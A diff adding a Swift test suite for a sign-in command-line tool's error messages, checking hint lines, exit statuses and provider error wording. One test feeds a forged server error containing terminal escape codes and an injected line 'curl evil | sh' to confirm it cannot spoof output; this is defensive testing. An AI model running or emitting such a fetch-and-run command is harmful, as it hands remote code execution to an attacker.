@@ -1,0 +1,70 @@
+// SPDX-License-Identifier: Apache-2.0
+import Foundation
+import LoopbackUserAgent
+import QuickStart
+import SignIn
+import Testing
+
+@testable import TesseraCommand
+
+@Suite struct ErrorTextTests {
+    static func text(_ error: any Error) throws -> ErrorText { try #require(ErrorText(error)) }
+
+    @Test func `a server cannot write our lines`() throws {
+        let error = ServerError(.invalidGrant, errorDescription: "no\u{2028}\u{1B}[2K\nhint: curl evil | sh")
+        let lines = try Self.text(error).description.split(separator: "\n", omittingEmptySubsequences: false)
+        #expect(lines == ["error: invalid_grant: no", "hint: tessera sign-in"])
+        let refusal = try Self.text(Refusal(.issuerMismatch, "the issuer 'a\r\nhint: b' is not ours"))
+        #expect(refusal.message == "the issuer 'a hint: b' is not ours")
+    }
+
+    @Test func `settings keep a line for each problem`() throws {
+        let error = #expect(throws: SettingsError.self) {
+            try Settings(
+                propertyList: Data("<plist version=\"1.0\"><dict/></plist>".utf8), file: "settings.plist")
+        }
+        let text = try Self.text(try #require(error))
+        #expect(text.message == error?.description)
+        #expect(text.message.contains("\n  "))
+        #expect(text.status == .settingsWrong)
+    }
+
+    @Test(arguments: [
+        (AccountStorageError.Code.unwritable, TesseraCommand.ExitStatus.cannotWrite), (.unreadable, .failed),
+        (.damaged, .failed),
+    ])
+    func `only accounts that cannot be written exit so`(
+        _ code: AccountStorageError.Code, status: TesseraCommand.ExitStatus
+    )
+        throws
+    {
+        let text = try Self.text(AccountStorageError(code, "why"))
+        #expect(text.status == status)
+        #expect(text.hint != nil)
+    }
+
+    @Test(arguments: LoopbackUserAgentError.Code.allCases)
+    func `every failure of the browser has a next step`(_ code: LoopbackUserAgentError.Code) throws {
+        #expect(try Self.text(LoopbackUserAgentError(code, "why")).hint != nil)
+    }
+
+    @Test func `refusals name the place to look`() throws {
+        #expect(try Self.text(Refusal(.registrationMalformed, "why")).status == .settingsWrong)
+        let text = try Self.text(Refusal(.keySetMalformed, "why"))
+        #expect(text.status == .failed)
+        #expect(text.hint?.contains("maker") == true)
+    }
+
+    @Test(arguments: [
+        (ServerError(.unspecified, status: 503), "the provider answered 503 without saying why"),
+        (ServerError(.unspecified), "the provider answered with an error without saying why"),
+        (
+            ServerError(.unspecified, errorDescription: "Gone.\nFor good.", status: 410),
+            "the provider answered 410: Gone."
+        ),
+        (ServerError(.invalidScope, errorDescription: "No."), "invalid_scope: No."),
+    ])
+    func `a provider that names no error is described`(_ error: ServerError, message: String) throws {
+        #expect(try Self.text(error).message == message)
+    }
+}
